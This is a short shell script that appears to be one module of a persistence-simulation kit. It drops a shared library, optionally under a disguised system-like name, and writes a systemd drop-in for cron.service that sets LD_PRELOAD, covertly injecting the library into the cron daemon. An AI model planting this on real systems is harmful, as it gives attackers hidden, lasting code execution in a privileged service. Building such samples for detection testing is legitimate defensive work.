#!/bin/sh
# systemd-service-preload: a preload for one service (systemd.exec(5),
# Environment=)
. "${0%/*}/lib.sh"
only "plain disguised dropped user" "a library has no command line"
l=$(named /opt/lib/net.so "$lib/libnss_sys.so.2")
library "$l"
put "/etc/systemd/system/cron.service.d/$(named env override).conf" 644 \
	"$head" "[Service]" "Environment=LD_PRELOAD=$l"
